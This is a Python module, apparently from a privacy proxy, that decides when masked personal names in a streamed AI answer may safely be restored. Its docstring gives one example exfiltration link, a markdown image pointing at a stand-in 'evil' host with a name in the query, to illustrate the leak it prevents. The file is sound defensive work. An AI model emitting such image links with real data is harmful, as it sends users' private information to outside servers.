r"""Surrogates back into names, where a name cannot travel on from.

A name restored inside an address is sent to whoever runs that server when the page is drawn:
``![](https://evil/?q=[NAME_1])``. So a surrogate is restored only if the request issued it, the caller may read its
entity, the place lies outside of all markup (``markup``), and the whole run of text around it is known to be no
address (``urls``). In doubt it stays.

Text is taken in pieces and held until the run it belongs to has ended; a run of more than ``LONGEST_RUN`` characters
keeps its surrogates. Restored text is never read again, so a value that looks like a surrogate stays as it is.

Not covered: a client that runs code from an answer, and addresses that a reader is talked into typing.
"""

import json
import re
from collections import Counter
from collections.abc import Set
from typing import Final

from extproc.detect.entities import EntityType
from extproc.mask.escapes import FILL, json_shadow, plain_shadow
from extproc.mask.markup import Markup
from extproc.mask.surrogates import LOOKALIKE, Surrogates, begun, canonical
from extproc.mask.urls import HOLE, harmless, holds_address
from extproc.payload.part import Spot

LONGEST_RUN: Final = 4096

_BLANK: Final = re.compile(r"[ \t\r\n]+")
_LAST_BLANK: Final = re.compile(r"[ \t\r\n](?=[^ \t\r\n]*\Z)")
_PLAIN: Final = re.compile(r"""(?:(?!')[^<>\[\](){}"`~“‘«「/\\／＼⁄∕［ \t\r\n]+[ \t\r\n]+)+""")
"""Runs without surrogates, delimiters and slashes, which change nothing where nothing is open."""
_PLAIN_WORDS: Final = re.compile(
    r"""(?:(?![^ \t\r\n]*www\.)[^<>\[\](){}"'`~“”‘’«»「」/\\／＼⁄∕［: \t\r\n]+[ \t]+)+""", re.IGNORECASE
)
"""The same within a line and without addresses, which change nothing even where delimiters are open."""
_RUN: Final = re.compile(rf"(?:{LOOKALIKE.pattern}|[^ \t\r\n])+", LOOKALIKE.flags)
_WORD: Final = re.compile(r"[\w\[［]")


class Restorer:
    """One running text of an answer. Where nothing may be restored it passes text through.

    ``entities`` are what the caller may read here: none in the arguments of a tool that the policy does not name.
    In a ``STRUCTURE`` nothing is restored whatever they are. A tool's argument is a decoded leaf, the whole of it.
    """

    def __init__(self, surrogates: Surrogates, entities: Set[EntityType], spot: Spot) -> None:
        self._surrogates: Final = surrogates
        self._entities: Final = frozenset[EntityType]() if spot is Spot.STRUCTURE else frozenset(entities)
        self._json: Final = spot is Spot.JSON_PROSE
        self._markup: Final = Markup()
        self._raw = ""  # held: as long as its shadow, but for an unfinished escape at the end
        self._shadow = ""
        self._overlong = False
        self.restored: Final[Counter[EntityType]] = Counter()

    @property
    def held(self) -> int:
        """Characters that came and are not settled."""
        return len(self._raw)

    def push(self, text: str) -> str:
        """Take more of the model's text; return what is settled."""
        if not self._entities:
            return text
        self._raw += text
        fresh = self._raw[len(self._shadow) :]
        self._shadow += json_shadow(fresh) if self._json else plain_shadow(fresh)
        return self._ended_runs()

    def keep(self, text: str) -> str:
        """Take text of our own, which is context and nothing else: no surrogate in it, or partly in it, is restored."""
        if not self._entities:
            return text
        self._close_escape()
        self._raw += text
        self._shadow += _WORD.sub("x", text)
        return self._ended_runs()

    def finish(self) -> str:
        """The text ended: return all that is left."""
        self._close_escape()
        return self._settled(len(self._shadow))

    def _close_escape(self) -> None:
        self._shadow += plain_shadow(self._raw[len(self._shadow) :])

    def _ended_runs(self) -> str:
        start = begun(self._shadow)
        certain = len(self._shadow) if start is None else start
        blanks = LOOKALIKE.sub(lambda match: "x" * len(match[0]), self._shadow[:certain])  # [NAME 1] is of one run
        blank = _LAST_BLANK.search(blanks)
        out = self._settled(blank.end()) if blank else ""
        if not blank and certain > LONGEST_RUN:
            self._overlong = True
            out = self._settled(certain)
        return out

    def _settled(self, end: int) -> str:
        out, at = [], 0
        while at < end:
            upto, written = self._token(at, end)
            out.append(written)
            at = upto
        self._raw, self._shadow = self._raw[end:], self._shadow[end:]
        return "".join(out)

    def _token(self, at: int, end: int) -> tuple[int, str]:
        """The next stretch of plain text, blanks or one run: where it ends and what is written for it."""
        plain = self._plain(at, end)
        if plain:
            return plain.end(), self._raw[at : plain.end()]
        blank = _BLANK.match(self._shadow, at, end)
        if blank:
            self._overlong = False
            self._markup.feed(blank[0])
            return blank.end(), self._raw[at : blank.end()]
        run = _RUN.match(self._shadow, at, end)
        if run is None:
            raise AssertionError("text is blanks and runs")
        return run.end(), self._written(self._raw[at : run.end()], run[0])

    def _plain(self, at: int, end: int) -> re.Match[str] | None:
        if self._markup.clear:
            return _PLAIN.match(self._shadow, at, end)
        return _PLAIN_WORDS.match(self._shadow, at, end) if self._markup.calm else None

    def _written(self, raw: str, shadow: str) -> str:
        found = [(match, original) for match in LOOKALIKE.finditer(shadow) if (original := self._original(match))]
        if not self._may_be_filled(shadow, [value for _, (_, value) in found]):
            self._read(shadow)
            return raw
        out, at = [], 0
        for match, (entity, value) in found:
            start = len(shadow[: match.start()].rstrip(FILL))  # an escape is replaced whole
            self._read(shadow[at:start])
            if not self._markup.safe:
                self._read(match[0])
                out.append(raw[at : match.end()])
            else:
                self._read(value)
                self.restored[entity] += 1
                out += raw[at:start], json.dumps(value, ensure_ascii=False)[1:-1] if self._json else value
            at = match.end()
        self._read(shadow[at:])
        return "".join(out) + raw[at:]

    def _may_be_filled(self, shadow: str, values: list[str]) -> bool:
        if not values or self._overlong or len(shadow) > LONGEST_RUN or self._markup.bars(shadow):
            return False
        run = self._markup.run_with(LOOKALIKE.sub(HOLE, shadow).replace(FILL, ""))
        if run.in_tag and not shadow.endswith("<br"):
            return False
        return harmless(run.visible, values) and not holds_address(run.written)

    def _original(self, lookalike: re.Match[str]) -> tuple[EntityType, str] | None:
        original = self._surrogates.original(canonical(lookalike))
        if original is None or original[0] not in self._entities:
            return None
        return original[0], original[1].reveal()

    def _read(self, shadow: str) -> None:
        self._markup.feed(shadow.replace(FILL, ""))
